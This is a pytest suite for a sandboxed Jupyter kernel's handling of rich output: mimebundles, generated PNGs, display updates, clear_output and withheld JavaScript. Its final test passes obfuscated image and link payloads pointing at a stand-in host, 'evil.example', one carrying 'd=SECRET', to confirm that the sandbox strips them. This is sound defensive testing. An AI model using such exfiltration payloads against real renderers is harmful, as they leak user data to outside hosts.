"""Rich output through the real kernel: full mimebundles, display handles, clear_output, images."""

from __future__ import annotations

import base64
import struct
import zlib
from typing import Any

from jupyter_client.blocking.client import BlockingKernelClient

from conftest import execute, start_kernel, stop_kernel

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"
JPEG_BYTES = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00fake-jpeg\xff\xd9"

# Runs in the guest: builds a real RGB PNG (w x h, one colour per row) with zlib + struct.
PNG_HELPER = """
import struct, zlib

def make_png(w, h):
    rows = b"".join(b"\\x00" + bytes((10 * y % 256, 20, 200)) * w for y in range(h))
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    ihdr = struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0)
    return b"\\x89PNG\\r\\n\\x1a\\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")
"""

RICH_CLASS = (
    PNG_HELPER
    + """
class Rich:
    def __repr__(self):
        return "Rich()"
    def _repr_html_(self):
        return "<b>rich</b>"
    def _repr_markdown_(self):
        return "**rich**"
    def _repr_svg_(self):
        return '<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"></svg>'
    def _repr_png_(self):
        return make_png(3, 2)
    def _repr_jpeg_(self):
        return JPEG_LITERAL
    def _repr_latex_(self):
        return r"$\\alpha^2$"
    def _repr_json_(self):
        return {"a": [1, 2.5, None], "b": {"c": "d"}}
""".replace("JPEG_LITERAL", repr(JPEG_BYTES))
)

EXPECTED_TEXT = {
    "text/plain": "Rich()",
    "text/html": "<b>rich</b>",
    "text/markdown": "**rich**",
    "image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"></svg>',
    "text/latex": "$\\alpha^2$",
}


def expected_rows(w: int, h: int) -> bytes:
    """The filtered scanlines make_png(w, h) compresses."""
    return b"".join(b"\x00" + bytes((10 * y % 256, 20, 200)) * w for y in range(h))


def check_png(b64: str, w: int, h: int) -> None:
    """Decode a base64 image/png value and verify it is the guest's PNG, chunk by chunk."""
    raw = base64.b64decode(b64, validate=True)
    assert raw.startswith(PNG_SIGNATURE)
    pos, chunks = len(PNG_SIGNATURE), {}
    while pos < len(raw):
        (length,) = struct.unpack(">I", raw[pos : pos + 4])
        kind, data = raw[pos + 4 : pos + 8], raw[pos + 8 : pos + 8 + length]
        (crc,) = struct.unpack(">I", raw[pos + 8 + length : pos + 12 + length])
        assert crc == zlib.crc32(kind + data), f"bad CRC in {kind!r}"
        chunks[kind] = data
        pos += 12 + length
    assert list(chunks) == [b"IHDR", b"IDAT", b"IEND"]
    assert struct.unpack(">II", chunks[b"IHDR"][:8]) == (w, h)
    assert zlib.decompress(chunks[b"IDAT"]) == expected_rows(w, h)


def only(run_outputs: list[dict[str, Any]]) -> dict[str, Any]:
    assert len(run_outputs) == 1, run_outputs
    return run_outputs[0]


def check_rich_bundle(data: dict[str, Any]) -> None:
    for mime, value in EXPECTED_TEXT.items():
        assert data[mime] == value, mime
    check_png(data["image/png"], 3, 2)
    assert base64.b64decode(data["image/jpeg"]) == JPEG_BYTES
    assert data["application/json"] == {"a": [1, 2.5, None], "b": {"c": "d"}}


def test_execute_result_carries_every_repr(kc: BlockingKernelClient) -> None:
    run = execute(kc, RICH_CLASS + "Rich()")
    assert run.content["status"] == "ok", run.content
    result = only(run.of_type("execute_result"))
    assert result["execution_count"] == run.content["execution_count"]
    check_rich_bundle(result["data"])
    assert not run.of_type("display_data")


def test_display_data_carries_every_repr(kc: BlockingKernelClient) -> None:
    run = execute(kc, RICH_CLASS + "from IPython.display import display\ndisplay(Rich())")
    assert run.content["status"] == "ok", run.content
    shown = only(run.of_type("display_data"))
    check_rich_bundle(shown["data"])
    assert not run.of_type("execute_result")  # display() returns None


def test_repr_mimebundle_data_and_metadata(kc: BlockingKernelClient) -> None:
    code = """
from IPython.display import display
class Custom:
    def _repr_mimebundle_(self, include=None, exclude=None):
        data = {"text/plain": "custom", "application/json": {"k": [1, 2]}, "text/html": "<i>c</i>",
                "application/vnd.custom+json": {"run": "me"}}
        return data, {"application/json": {"expanded": True}, "application/vnd.custom+json": {"x": 1}}
display(Custom())
Custom()
"""
    run = execute(kc, code)
    assert run.content["status"] == "ok", run.content
    want = {"text/plain": "custom", "application/json": {"k": [1, 2]}, "text/html": "<i>c</i>"}
    for content in (only(run.of_type("display_data")), only(run.of_type("execute_result"))):
        assert content["data"] == want  # a vendor type that no safe renderer claims is not sent
        assert content["metadata"] == {"application/json": {"expanded": True}}
    assert "output of type application/vnd.custom+json was not sent" in run.stream("stderr")


def test_ipython_display_classes(kc: BlockingKernelClient) -> None:
    code = (
        PNG_HELPER
        + """
from IPython.display import display, HTML, Markdown, Image, SVG, JSON, Javascript, clear_output
display(HTML("<p>h</p>"))
display(Markdown("# m"))
display(Image(data=make_png(5, 4), format="png", width=50))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><circle r="1"/></svg>'))
display(JSON({"x": [1, 2]}))
display(Javascript("console.log('js')"))
"""
    )
    run = execute(kc, code)
    assert run.content["status"] == "ok", run.content
    shown = run.of_type("display_data")
    assert [sorted(k for k in d["data"] if k != "text/plain") for d in shown] == [
        ["text/html"],
        ["text/markdown"],
        ["image/png"],
        ["image/svg+xml"],
        ["application/json"],
        [],  # application/javascript is never sent (SandboxKernel.trust_output is off)
    ]
    html, md, image, svg, js_json, js = (d["data"] for d in shown)
    assert html["text/html"] == "<p>h</p>"
    assert md["text/markdown"] == "# m"
    check_png(image["image/png"], 5, 4)
    assert shown[2]["metadata"] == {"image/png": {"width": 50}}
    assert svg["image/svg+xml"].startswith("<svg") and "<circle" in svg["image/svg+xml"]
    assert js_json["application/json"] == {"x": [1, 2]}
    assert js == {"text/plain": "<IPython.core.display.Javascript object>"}
    assert run.stream("stderr").count("application/javascript was not sent") == 1


def test_trusted_output_passes_javascript_unchanged() -> None:
    """The opt-in for people who run their own code: output goes out as IPython made it."""
    km, kc = start_kernel(["--SandboxKernel.trust_output=True"])
    try:
        run = execute(
            kc,
            "from IPython.display import HTML, Javascript, display\ndisplay(Javascript('1'))\nHTML('<script>2</script>')",
        )
        assert [d["data"].get("application/javascript") for d in run.of_type("display_data")] == ["1"]
        assert only(run.of_type("execute_result"))["data"]["text/html"] == "<script>2</script>"
        assert run.stream("stderr") == ""
    finally:
        stop_kernel(km, kc)


def test_png_made_in_guest_arrives_as_base64(kc: BlockingKernelClient) -> None:
    run = execute(kc, PNG_HELPER + "from IPython.display import Image\nImage(data=make_png(16, 9))")
    assert run.content["status"] == "ok", run.content
    data = only(run.of_type("execute_result"))["data"]
    assert isinstance(data["image/png"], str)
    assert base64.b64decode(data["image/png"]).startswith(PNG_SIGNATURE)
    check_png(data["image/png"], 16, 9)


def test_display_handle_update(kc: BlockingKernelClient) -> None:
    code = """
from IPython.display import display, HTML
handle = display(HTML("<b>first</b>"), display_id=True)
print(handle.display_id)
handle.update(HTML("<b>second</b>"))
"""
    run = execute(kc, code)
    assert run.content["status"] == "ok", run.content
    first = only(run.of_type("display_data"))
    update = only(run.of_type("update_display_data"))
    display_id = first["transient"]["display_id"]
    assert isinstance(display_id, str) and display_id
    assert update["transient"]["display_id"] == display_id
    assert run.stream().strip() == display_id
    assert first["data"]["text/html"] == "<b>first</b>"
    assert update["data"]["text/html"] == "<b>second</b>"
    kinds = [m["msg_type"] for m in run.outputs if m["msg_type"] != "stream"]
    assert kinds == ["display_data", "update_display_data"]


def test_update_display_by_name_from_a_later_cell(kc: BlockingKernelClient) -> None:
    execute(kc, "from IPython.display import display\ndisplay('v1', display_id='progress-bar')")
    run = execute(kc, "from IPython.display import update_display\nupdate_display('v2', display_id='progress-bar')")
    assert run.content["status"] == "ok", run.content
    update = only(run.of_type("update_display_data"))
    assert update["transient"] == {"display_id": "progress-bar"}
    assert update["data"]["text/plain"] == "'v2'"


def test_clear_output_wait_flag(kc: BlockingKernelClient) -> None:
    code = """
from IPython.display import clear_output
print("before")
clear_output(wait=True)
print("after")
clear_output()
"""
    run = execute(kc, code)
    assert run.content["status"] == "ok", run.content
    assert run.of_type("clear_output") == [{"wait": True}, {"wait": False}]
    # Ordered with the stream text around it.
    sequence = [(m["msg_type"], m["content"].get("text") or m["content"].get("wait")) for m in run.outputs]
    assert sequence == [
        ("stream", "before\n"),
        ("clear_output", True),
        ("stream", "after\n"),
        ("clear_output", False),
    ]


def test_no_url_to_another_host_leaves_the_kernel(kc: BlockingKernelClient) -> None:
    """allow_net is empty: images, links and a Vega data URL that name another host (as browsers parse URLs)
    lose the URL or are not sent, with the reason; what stays on the page is kept."""
    code = r"""
from IPython.display import HTML, Markdown, display
display(HTML('<img src="/\\evil.example/x?d=SECRET"><img src=" &#x2F;&#x5C;evil.example/y"><img src="figures/a.png">'
             '<a href="https://evil.example/">docs</a> <a href="#top">top</a>'))
display(Markdown("see www.evil.example and ![x](//evil.example/y)"))
display({"application/vnd.vegalite.v5+json": {"data": {"url": "/\\evil.example/d.csv"}, "mark": "bar"},
         "text/plain": "chart"}, raw=True)
"""
    run = execute(kc, code)
    assert run.content["status"] == "ok", run.content
    html, markdown, chart = (d["data"] for d in run.of_type("display_data"))
    assert html["text/html"] == (
        '<img><img><img src="figures/a.png"><a rel="noopener noreferrer nofollow">docs</a> '
        '<a href="#top" rel="noopener noreferrer nofollow">top</a>'
    )
    assert "text/markdown" not in markdown
    assert markdown["text/html"] == '<p>see www.evil.example and <img alt="x"></p>\n'
    assert chart == {"text/plain": "chart"}
    assert (
        "output of type application/vnd.vegalite.v5+json was not sent: it names a URL on 'evil.example', a host not "
        "in SandboxKernel.allow_net" in run.stream("stderr")
    )
